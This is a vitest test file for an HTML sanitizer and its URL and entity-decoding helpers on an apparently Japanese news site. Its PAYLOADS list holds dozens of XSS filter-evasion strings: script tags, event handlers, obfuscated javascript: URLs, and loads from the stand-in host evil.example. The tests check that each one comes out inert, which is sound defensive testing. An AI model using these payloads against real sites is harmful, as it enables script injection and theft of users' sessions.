import { describe, expect, it } from "vitest";
import { decodeAttribute, safeImageUrl, safeLinkUrl, sanitizeHtml } from "#app/features/content/sanitize-html.server";
import { newsAsOf, XSS_NEWS_ID } from "../../worker/mock/seed-news";

/** Every `<` left in the output must open or close one of these, with only these attributes. */
const TAG =
	/^<(?:\/(?:p|strong|em|ul|ol|li|h2|h3|h4|a|table|caption|thead|tbody|tfoot|tr|th|td)|(?:p|br|strong|em|ul|ol|li|h2|h3|h4|table|caption|thead|tbody|tfoot|tr)|a href="[^"]*" rel="noopener noreferrer"|th(?: scope="(?:col|row|colgroup|rowgroup)")?(?: colspan="\d+")?(?: rowspan="\d+")?|td(?: colspan="\d+")?(?: rowspan="\d+")?|img(?: src="[^"]*"| alt="[^"]*")+)>$/;

function assertInert(output: string): void {
	const tags = output.match(/<[^>]*>?/g) ?? [];
	for (const tag of tags) expect(tag).toMatch(TAG);
	// Outside tags, nothing may start markup.
	expect(output.replace(/<[^>]*>/g, "")).not.toMatch(/[<>]/);
	for (const [, value] of output.matchAll(/(?:href|src)="([^"]*)"/g)) {
		const decoded = decodeAttribute(value ?? "");
		expect(decoded).toMatch(/^(?:https?:|\/(?![/\\])|[^:/\\]*(?:[/?#]|$))/i);
	}
	for (const [, value] of output.matchAll(/src="([^"]*)"/g)) {
		expect(decodeAttribute(value ?? "")).not.toMatch(/^http:/i);
	}
	// Balanced: the body cannot close or reopen the page's own elements.
	const stack: string[] = [];
	for (const tag of tags) {
		const name = /^<\/?([a-z0-9]+)/.exec(tag)?.[1] ?? "";
		if (name === "br" || name === "img") continue;
		if (tag.startsWith("</")) expect(stack.pop()).toBe(name);
		else stack.push(name);
	}
	expect(stack).toEqual([]);
}

/** From the OWASP XSS filter evasion cheat sheet and friends. */
const PAYLOADS = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
	"<script/xss src=https://evil.example/xss.js></script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>alert(1);//<</script>",
	"<img src=x onerror=alert(1)>",
	'<img src="x" onerror="alert(1)">',
	"<img src=x onerror=alert(1)//",
	"<IMG SRC=JaVaScRiPt:alert(1)>",
	"<img src=javascript:alert(1)>",
	"<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
	"<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
	'<img src="jav\tascript:alert(1);">',
	'<img src="jav&#x09;ascript:alert(1);">',
	'<img src=" &#14;  javascript:alert(1);">',
	"<img src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>",
	"<img src=//evil.example/a.png>",
	"<img src=/\\evil.example/a.png>",
	"<img src=http://evil.example/a.png>",
	"<img/src=x/onerror=alert(1)>",
	'<img """><script>alert(1)</script>">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JAVASCRIPT:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="javascript&colon;alert(1)">x</a>',
	'<a href="javascript&#58alert(1)">x</a>',
	'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="x:alert(1)">x</a>',
	'<a href="https://ok.example/" onclick="alert(1)" target="_blank">x</a>',
	'<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
	"<p onclick=alert(1) style=background:url(javascript:alert(1))>x</p>",
	"<p style=\"x:expression(alert('XSS'))\">x</p>",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	"<object data=javascript:alert(1)></object>",
	"<embed src=javascript:alert(1)>",
	"<body onload=alert(1)>",
	"<input autofocus onfocus=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<video><source onerror=alert(1)></video>",
	'<form action="javascript:alert(1)"><button>x</button></form>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="https://evil.example/">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	"<style>@import 'https://evil.example/x.css';</style>",
	"<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
	"<!--<img src=x onerror=alert(1)>-->",
	"<!--> <img src=x onerror=alert(1)> -->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	"<textarea><img src=x onerror=alert(1)></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
	"<template><img src=x onerror=alert(1)></template>",
	'<p title="a" title="b" onclick="x">y</p>',
	'<img src="https://ok.example/a.png" alt="x" onerror="alert(1)">',
	'<img alt="" src=x onerror=alert(1) src=https://ok.example/a.png>',
	"</p></main></body><script>alert(1)</script>",
	"<a href=https://ok.example/>unclosed link<p>para",
	'<img src=x onerror="alert(1)"',
	"<p>unterminated <",
	"< script>alert(1)</script>",
	"<plaintext><img src=x onerror=alert(1)>",
	"<image src=x onerror=alert(1)>",
	"<isindex type=image src=1 onerror=alert(1)>",
	'<a href="https://ok.example/"><img src=x onerror=alert(1)></a>',
	'<th scope="row" onclick=x colspan="2">x</th>',
	'<td colspan="2; x" rowspan=99999>x</td>',
];

describe("sanitizeHtml", () => {
	it.each(PAYLOADS)("renders %j inert", (payload) => {
		const output = sanitizeHtml(payload);
		assertInert(output);
		const markupOnly = output.replace(/="[^"]*"/g, '=""').replace(/>[^<]*/g, ">");
		expect(markupOnly.toLowerCase()).not.toMatch(/\bon[a-z]+=|style=|<script|<iframe|<svg|<object|<embed/);
		// Idempotent: sanitising twice changes nothing, so nothing was left half-parsed.
		expect(sanitizeHtml(output)).toBe(output);
	});

	it("neutralises the mock's XSS news item and keeps its text", () => {
		const body = newsAsOf("2027-06-15").find((item) => item.id === XSS_NEWS_ID)?.body ?? "";
		const output = sanitizeHtml(body);
		assertInert(output);
		expect(output).toContain("<p>このお知らせは表示確認用です。以下の内容は実行されずに表示されます。</p>");
		expect(output).toContain("<p>リンク</p>");
		expect(output).toContain("<p>クリックしてください</p>");
		// A relative image would load from the article's own address: dropped, with nothing left of its handler.
		expect(output).not.toContain("<img");
		expect(output).not.toMatch(/onerror|onclick|alert|evil|script|iframe|style/);
	});

	it("keeps the editor's allowed formatting", () => {
		const html =
			'<h2>見出し</h2><p>本文<br>改行 <strong>強調</strong> <em>斜体</em></p><ol><li>一</li></ol><ul><li>二</li></ul><h3>小見出し</h3><h4>小小</h4><a href="/news/2">関連</a> <a href="https://www.example.jp/a?b=1&amp;c=2">外部</a>';
		expect(sanitizeHtml(html)).toBe(
			'<h2>見出し</h2><p>本文<br>改行 <strong>強調</strong> <em>斜体</em></p><ol><li>一</li></ol><ul><li>二</li></ul><h3>小見出し</h3><h4>小小</h4><a href="/news/2" rel="noopener noreferrer">関連</a> <a href="https://www.example.jp/a?b=1&amp;c=2" rel="noopener noreferrer">外部</a>',
		);
	});

	it("keeps tables with caption and header scope", () => {
		const html =
			'<table class="x"><caption>主な基準値</caption><thead><tr><th scope="col">項目</th><th SCOPE=COL>基準値</th></tr></thead><tbody><tr><td colspan="2">BMI</td></tr></tbody></table>';
		expect(sanitizeHtml(html)).toBe(
			'<table><caption>主な基準値</caption><thead><tr><th scope="col">項目</th><th scope="col">基準値</th></tr></thead><tbody><tr><td colspan="2">BMI</td></tr></tbody></table>',
		);
	});

	it("keeps images from the allowed origins, adding an empty alt when missing", () => {
		const options = { imageOrigins: ["https://cdn.example.jp"] };
		expect(sanitizeHtml('<img src="https://cdn.example.jp/a.png" alt="野菜" width=10>', options)).toBe(
			'<img src="https://cdn.example.jp/a.png" alt="野菜">',
		);
		expect(sanitizeHtml("<img src=https://cdn.example.jp/b.png>", options)).toBe(
			'<img src="https://cdn.example.jp/b.png" alt="">',
		);
	});

	it("drops a relative, other-origin or missing image source with its element, keeping the alt as text", () => {
		const options = { imageOrigins: ["https://cdn.example.jp"] };
		expect(sanitizeHtml("<p><img src=/images/a.png alt=図1>の通り</p>", options)).toBe("<p>図1の通り</p>");
		expect(sanitizeHtml('<img src="x" alt="野菜">', options)).toBe("野菜");
		expect(sanitizeHtml('<img src="https://tracker.example/p.gif" alt="a &amp; b <c>">', options)).toBe(
			"a &amp; b &lt;c&gt;",
		);
		expect(sanitizeHtml('<img alt="&amp;lt;" alt="二つ目">', options)).toBe("&amp;lt;");
		expect(sanitizeHtml("<img src=x>", options)).toBe("");
		expect(sanitizeHtml("<img alt=x>")).toBe("x");
	});

	it("unwraps unknown elements, keeping their text, and closes what was left open", () => {
		expect(sanitizeHtml("<div><span>囲み</span></div><h1>大見出し</h1><p>開いたまま")).toBe(
			"囲み大見出し<p>開いたまま</p>",
		);
		expect(sanitizeHtml("<ul><li>一<li>二</ul>")).toBe("<ul><li>一<li>二</li></li></ul>");
		expect(sanitizeHtml("</p>閉じるだけ")).toBe("閉じるだけ");
	});

	it("keeps character references in text and escapes stray markup characters", () => {
		expect(sanitizeHtml("<p>A&nbsp;&amp;&nbsp;B &hellip; 1 < 2 > 0 & Q&A</p>")).toBe(
			"<p>A&nbsp;&amp;&nbsp;B &hellip; 1 &lt; 2 &gt; 0 &amp; Q&amp;A</p>",
		);
	});

	it("drops comments, doctypes and processing instructions", () => {
		expect(sanitizeHtml("<!DOCTYPE html><?xml x?><!-- 編集メモ --><p>本文</p>")).toBe("<p>本文</p>");
	});
});

describe("URL rules", () => {
	it.each([
		["https://www.example.jp/", "https://www.example.jp/"],
		["http://www.example.jp/", "http://www.example.jp/"],
		["/news/1", "/news/1"],
		["news/1?a=b:c", "news/1?a=b:c"],
		["#top", "#top"],
		["  https://www.example.jp/  ", "https://www.example.jp/"],
		["javascript:alert(1)", null],
		["jav\nascript:alert(1)", null],
		["mailto:kenpo@example.jp", null],
		["data:text/html,x", null],
		["", null],
	])("link %j -> %j", (input, expected) => {
		expect(safeLinkUrl(input)).toBe(expected);
	});

	it.each([
		["https://cdn.example.jp/a.png", "https://cdn.example.jp/a.png"],
		["https://other.example.jp/a.png", null],
		["https://cdn.example.jp.evil.example/a.png", null],
		["/images/a.png", null],
		["images/a.png", null],
		["http://cdn.example.jp/a.png", null],
		["//cdn.example.jp/a.png", null],
		["/\\cdn.example.jp/a.png", null],
		["\\\\cdn.example.jp/a.png", null],
		["data:image/png;base64,AAAA", null],
		["javascript:alert(1)", null],
	])("image %j -> %j (images allowed from https://cdn.example.jp)", (input, expected) => {
		expect(safeImageUrl(input, ["https://cdn.example.jp"])).toBe(expected);
	});

	it("shows https images only from the origins the CSP allows; without any, none", () => {
		const html = '<p><img src="https://cdn.example.jp/a.png" alt="図"><img src="https://tracker.example/p.gif"></p>';
		expect(sanitizeHtml(html, { imageOrigins: ["https://cdn.example.jp"] })).toBe(
			'<p><img src="https://cdn.example.jp/a.png" alt="図"></p>',
		);
		expect(sanitizeHtml(html)).toBe("<p>図</p>");
	});

	it("decodes the character references a browser would in an attribute", () => {
		expect(decodeAttribute("&#106;&#x61;v&#97script&colon;x&amp;&unknown;")).toBe("javascript:x&&unknown;");
		expect(decodeAttribute("&#0;&#xD800;")).toBe("\ufffd\ufffd");
	});
});

describe("element lists", () => {
	it.each(["script", "style", "iframe", "noscript", "noembed", "noframes", "xmp", "textarea", "title"])(
		"skips <%s> as raw text up to its own end tag, whatever markup it holds",
		(name) => {
			expect(sanitizeHtml(`<p>前</p><${name}><p>中</p><a href="/x">x</a></${name}><p>後</p>`)).toBe(
				"<p>前</p><p>後</p>",
			);
			expect(sanitizeHtml(`<${name} x=1><p>中</p></${name.toUpperCase()} ><p>後</p>`)).toBe("<p>後</p>");
			expect(sanitizeHtml(`<${name}><p>中</p></${name}/><p>後</p>`)).toBe("<p>後</p>");
		},
	);

	it("ends raw text only at its own end tag, not at a longer name or another element's", () => {
		expect(sanitizeHtml("<style></styles><p>中</p></style><p>後</p>")).toBe("<p>後</p>");
		expect(sanitizeHtml("<textarea></title><p>中</p></textarea><p>後</p>")).toBe("<p>後</p>");
	});

	it("drops everything from <plaintext> on, and raw text never closed", () => {
		expect(sanitizeHtml("<p>前</p><plaintext><p>後</p></plaintext><p>更に</p>")).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p><style><p>後</p>")).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p><style><p>後</p></style")).toBe("<p>前</p>");
	});

	it.each(["template", "svg", "math", "object", "select", "head", "frameset", "applet"])(
		"drops <%s> with everything inside it, nested ones of the same name counted",
		(name) => {
			expect(
				sanitizeHtml(`<p>前</p><${name}><p>中</p><${name} a=1><p>奥</p></${name}><p>中</p></${name}><p>後</p>`),
			).toBe("<p>前</p><p>後</p>");
			expect(sanitizeHtml(`<${name}><p>中</p></${name.toUpperCase()}\t><p>後</p>`)).toBe("<p>後</p>");
		},
	);

	it("drops a subtree never closed to the end, and one whose end tag never ends", () => {
		expect(sanitizeHtml("<p>前</p><svg><p>中</p>")).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p><svg><p>中</p></svg")).toBe("<p>前</p>");
		expect(sanitizeHtml("<svg><svgx></svg><p>後</p>")).toBe("<p>後</p>");
	});

	it("keeps every allowed element and closes what the editor left open", () => {
		const names = [
			"p",
			"strong",
			"em",
			"ul",
			"ol",
			"li",
			"h2",
			"h3",
			"h4",
			"table",
			"caption",
			"thead",
			"tbody",
			"tfoot",
			"tr",
			"th",
			"td",
		];
		for (const name of names) expect(sanitizeHtml(`<${name} class="x">本文`)).toBe(`<${name}>本文</${name}>`);
		expect(sanitizeHtml("<br/>改行<br>")).toBe("<br>改行<br>");
		expect(
			sanitizeHtml('<p><img src="https://cdn.example.jp/a.png">後</p>', { imageOrigins: ["https://cdn.example.jp"] }),
		).toBe('<p><img src="https://cdn.example.jp/a.png" alt="">後</p>');
	});

	it.each(["col", "row", "colgroup", "rowgroup"])(
		"keeps scope=%s on a header cell, trimmed and lower-cased",
		(scope) => {
			expect(sanitizeHtml(`<th scope=" ${scope.toUpperCase()} ">x</th>`)).toBe(`<th scope="${scope}">x</th>`);
		},
	);

	it("refuses any other scope and any span that is not 1 to 999", () => {
		expect(sanitizeHtml('<th scope="all">x</th>')).toBe("<th>x</th>");
		expect(sanitizeHtml('<td colspan=" 999 " rowspan="1">x</td>')).toBe('<td colspan="999" rowspan="1">x</td>');
		for (const span of ["0", "1000", "01", "1.5", "-1", "", "2x", "x2"]) {
			expect(sanitizeHtml(`<td colspan="${span}">x</td>`)).toBe("<td>x</td>");
		}
	});
});

describe("tag reading", () => {
	it("takes the first of duplicate attributes, as a browser does", () => {
		expect(sanitizeHtml('<a href="/first" HREF="javascript:alert(1)">x</a>')).toBe(
			'<a href="/first" rel="noopener noreferrer">x</a>',
		);
		expect(sanitizeHtml('<a href="javascript:alert(1)" href="/second">x</a>')).toBe("x");
	});

	it("reads single-quoted, unquoted and spaced values", () => {
		expect(sanitizeHtml("<a href='/a b'>x</a>")).toBe('<a href="/a b" rel="noopener noreferrer">x</a>');
		expect(sanitizeHtml("<a href=/a>x</a>")).toBe('<a href="/a" rel="noopener noreferrer">x</a>');
		expect(sanitizeHtml('<a\nhref\t=\n"/a"\f>x</a>')).toBe('<a href="/a" rel="noopener noreferrer">x</a>');
		expect(
			sanitizeHtml("<img src=https://cdn.example.jp/a.png alt=図/>", { imageOrigins: ["https://cdn.example.jp"] }),
		).toBe('<img src="https://cdn.example.jp/a.png" alt="図/">');
	});

	it("reads an attribute without a value, and a name starting with '='", () => {
		expect(sanitizeHtml('<a href disabled href="/b">x</a>')).toBe("x");
		expect(sanitizeHtml('<a =href="/a" href="/b">x</a>')).toBe('<a href="/b" rel="noopener noreferrer">x</a>');
	});

	it("drops a tag the input ends inside, with what follows", () => {
		expect(sanitizeHtml('<p>前</p><a href="/a')).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p><a href=/a")).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p><p")).toBe("<p>前</p>");
		expect(sanitizeHtml("<p>前</p></p")).toBe("<p>前</p>");
	});

	it("escapes what the attribute value holds", () => {
		expect(
			sanitizeHtml(`<img src="https://cdn.example.jp/a.png" alt='"<b>&x'>`, {
				imageOrigins: ["https://cdn.example.jp"],
			}),
		).toBe('<img src="https://cdn.example.jp/a.png" alt="&quot;&lt;b&gt;&amp;x">');
	});

	it("treats '<' not followed by a letter as text, and '</>' and '</ x>' as nothing", () => {
		expect(sanitizeHtml("a <1 b <> c </> d </ x> e")).toBe("a &lt;1 b &lt;&gt; c  d  e");
		expect(sanitizeHtml("a </ x")).toBe("a ");
	});

	it("closes at an end tag every element opened inside the one it names", () => {
		expect(sanitizeHtml("<p><strong><em>x</p>y")).toBe("<p><strong><em>x</em></strong></p>y");
		expect(sanitizeHtml("<p>x</P >y")).toBe("<p>x</p>y");
	});

	it("drops empty and unclosed comments and bogus comments", () => {
		expect(sanitizeHtml("a<!-->b<!--->c<!-- x -->d")).toBe("abcd");
		expect(sanitizeHtml("a<!-- never closed <p>x</p>")).toBe("a");
		expect(sanitizeHtml("a<!doctype never closed")).toBe("a");
		expect(sanitizeHtml("a<?php x ?>b")).toBe("ab");
	});
});

describe("URL rules: each check on its own", () => {
	it.each([
		["1javascript:alert(1)", null],
		["_x:y", null],
		["a/b:c", "a/b:c"],
		["a?b:c", "a?b:c"],
		["a#b:c", "a#b:c"],
		["HTTPS://www.example.jp/", "HTTPS://www.example.jp/"],
		["\u0000\u001f https://www.example.jp/ \u0020", "https://www.example.jp/"],
		["java\tscript:alert(1)", null],
		["java\rscript:alert(1)", null],
		["\t\n", null],
	])("link %j -> %j", (input, expected) => {
		expect(safeLinkUrl(input)).toBe(expected);
	});

	it.each([
		["1x:y.png", null],
		["a/b:c.png", null],
		["a?b:c", null],
		["a#b:c", null],
		[" https://cdn.example.jp/a.png\n", "https://cdn.example.jp/a.png"],
		["HTTPS://cdn.example.jp/a.png", "HTTPS://cdn.example.jp/a.png"],
		["/\\/cdn.example.jp", null],
		["\\/cdn.example.jp", null],
		["/images//a.png", null],
		[" ", null],
		["https://[bad", null],
	])("image %j -> %j", (input, expected) => {
		expect(safeImageUrl(input, ["https://cdn.example.jp"])).toBe(expected);
	});

	it.each([
		["amp", "&"],
		["lt", "<"],
		["gt", ">"],
		["quot", '"'],
		["apos", "'"],
		["nbsp", "\u00a0"],
		["colon", ":"],
		["tab", "\t"],
		["newline", "\n"],
		["sol", "/"],
		["bsol", "\\"],
		["lpar", "("],
		["rpar", ")"],
		["period", "."],
		["comma", ","],
		["semi", ";"],
		["excl", "!"],
		["num", "#"],
		["percnt", "%"],
		["quest", "?"],
		["equals", "="],
		["plus", "+"],
		["commat", "@"],
	])("decodes &%s; in an attribute, in any case", (name, char) => {
		expect(decodeAttribute(`a&${name};b`)).toBe(`a${char}b`);
		expect(decodeAttribute(`&${name.toUpperCase()};`)).toBe(char);
	});

	it("decodes numeric references with or without ';', and refuses code points no text may hold", () => {
		expect(decodeAttribute("&#58&#x3A;&#X3a")).toBe(":::");
		expect(decodeAttribute("&#x10FFFF;&#x110000;&#xDFFF;&#xE000;&#55295;")).toBe("\u{10ffff}\ufffd\ufffd\ue000\ud7ff");
		expect(decodeAttribute("&colon")).toBe("&colon");
	});

	it("unwraps a link whose address is refused and keeps its text", () => {
		expect(sanitizeHtml('<a href="javascript:alert(1)">押す</a>')).toBe("押す");
		expect(sanitizeHtml("<a>押す</a>")).toBe("押す");
	});

	it("keeps text references but escapes a bare ampersand", () => {
		expect(sanitizeHtml("&amp; &#38; &#x26; &copy; & &# &#x; &1;")).toBe(
			"&amp; &#38; &#x26; &copy; &amp; &amp;# &amp;#x; &amp;1;",
		);
	});
});
